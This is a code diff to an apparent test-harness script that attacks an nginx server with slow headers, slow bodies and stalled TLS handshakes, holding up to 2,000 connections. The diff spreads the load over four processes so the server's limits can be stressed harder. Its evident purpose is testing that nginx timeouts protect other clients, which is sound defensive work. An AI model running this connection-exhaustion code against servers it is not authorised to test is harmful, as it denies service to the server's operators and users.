@@ -16,17 +16,25 @@ outcome. Seconds count from the connect for unfinished headers and handshakes (n
 the accept), from the last byte sent for bodies (nginx's timer runs between two reads).
 """
 
+from __future__ import annotations
+
 import asyncio
+import contextlib
 import json
+import multiprocessing
+import queue
 import ssl
 import sys
 import time
 from collections import Counter
+from multiprocessing.queues import Queue
+from multiprocessing.sharedctypes import Synchronized
 from typing import Any
 
 HEADER_TRICKLE_SECONDS = 2.0
 # Held at once when the attacker says "holding".
 HOLD_TARGET = 2000
+PROCESSES = 4
 # Give up on a connection the server has not closed after this long (the limits close them in ~10 s).
 GIVE_UP_SECONDS = 40.0
 # A TLS record header announcing a ClientHello of 512 bytes, and the first bytes of it.
@@ -118,42 +126,35 @@ async def slow_handshake(host: str, port: int, opened: asyncio.Event) -> dict[st
     return ended
 
 
-async def main(host: str, port: int, headers: int, bodies: int, handshakes: int) -> None:
+async def attack(
+    host: str, port: int, headers: int, bodies: int, handshakes: int, open_now: Synchronized[int]
+) -> list[dict[str, Any]]:
+    """One process's share of the connections; ``open_now`` counts the open ones of every process."""
     tls = ssl.create_default_context()
     tls.check_hostname = False
     tls.verify_mode = ssl.CERT_NONE
     tls.set_alpn_protocols(["http/1.1"])
     # Not all handshakes at once: a few hundred in flight keep the attack quick without timing out here.
-    opening = asyncio.Semaphore(400)
-    total = headers + bodies + handshakes
-    open_now = peak = 0
-    started = time.monotonic()
+    opening = asyncio.Semaphore(200)
 
-    def opened_one() -> None:
-        nonlocal open_now, peak
-        open_now += 1
-        if open_now > peak:
-            peak = open_now
-            # The moment the test checks that another client is served: enough held at once. (They
-            # cannot all be: nginx cuts the first ones off while the last ones are being opened.)
-            if peak == min(HOLD_TARGET, total):
-                say(holding={"connections": peak, "opened_in_seconds": round(time.monotonic() - started, 1)})
+    def count(change: int) -> None:
+        with open_now.get_lock():
+            open_now.value += change
 
     async def opened_one_by_one(kind: str, make: Any) -> dict[str, Any]:
-        nonlocal open_now
         opened = asyncio.Event()
         async with opening:
             task = asyncio.ensure_future(make(opened))
             await asyncio.wait([task, asyncio.ensure_future(opened.wait())], return_when="FIRST_COMPLETED")
         if opened.is_set():
-            opened_one()
+            count(+1)
         try:
             return {"kind": kind, **await task}
         except (ConnectionError, ssl.SSLError, OSError) as error:
             return {**GAVE_UP, "kind": kind, "outcome": f"refused: {error}", "seconds": 0.0}
         finally:
             if opened.is_set():
-                open_now -= 1
+                count(-1)
 
     # Unfinished headers first: they are what must be held 2,000 at once.
     running = (
@@ -170,10 +171,51 @@ async def main(host: str, port: int, headers: int, bodies: int, handshakes: int)
             for _ in range(bodies)
         ]
     )
-    results = await asyncio.gather(*running)
+    return list(await asyncio.gather(*running))
+
+
+def attack_in_process(
+    host: str, port: int, counts: tuple[int, int, int], open_now: Synchronized[int], results: Queue[Any]
+) -> None:
+    results.put(asyncio.run(attack(host, port, *counts, open_now)))
+
+
+def main(host: str, port: int, headers: int, bodies: int, handshakes: int) -> None:
+    """The connections shared out over a few processes (one client address all the same): one Python
+    process alone cannot open TLS connections faster than nginx cuts them off on a busy machine."""
+    context = multiprocessing.get_context("fork")
+    open_now = context.Value("i", 0)
+    results = context.Queue()
+    shares = [
+        tuple(
+            total // PROCESSES + (1 if index < total % PROCESSES else 0)
+            for total in (headers, bodies, handshakes)
+        )
+        for index in range(PROCESSES)
+    ]
+    processes = [
+        context.Process(target=attack_in_process, args=(host, port, share, open_now, results))
+        for share in shares
+    ]
+    started = time.monotonic()
+    for process in processes:
+        process.start()
+    peak, announced, gathered = 0, False, []
+    while len(gathered) < len(processes):
+        with contextlib.suppress(queue.Empty):
+            gathered.append(results.get(timeout=0.02))
+        peak = max(peak, open_now.value)
+        # The moment the test checks that another client is served: enough held at once. (Not all of
+        # them: nginx cuts the first ones off while the last ones are being opened.)
+        if not announced and peak >= min(HOLD_TARGET, headers + bodies + handshakes):
+            say(holding={"connections": peak, "opened_in_seconds": round(time.monotonic() - started, 1)})
+            announced = True
+    for process in processes:
+        process.join()
+    results_of_all = [result for share in gathered for result in share]
     summary: dict[str, Any] = {}
     for kind in ("header", "body", "handshake"):
-        of_kind = [result for result in results if result["kind"] == kind]
+        of_kind = [result for result in results_of_all if result["kind"] == kind]
         summary[kind] = {
             "outcomes": dict(Counter(result["outcome"] for result in of_kind)),
             "closed_after": sorted(round(result["seconds"], 1) for result in of_kind),
@@ -192,4 +234,4 @@ async def main(host: str, port: int, headers: int, bodies: int, handshakes: int)
 
 if __name__ == "__main__":
     host, port, *counts = sys.argv[1:]
-    asyncio.run(main(host, int(port), *(int(count) for count in counts)))
+    main(host, int(port), *(int(count) for count in counts))
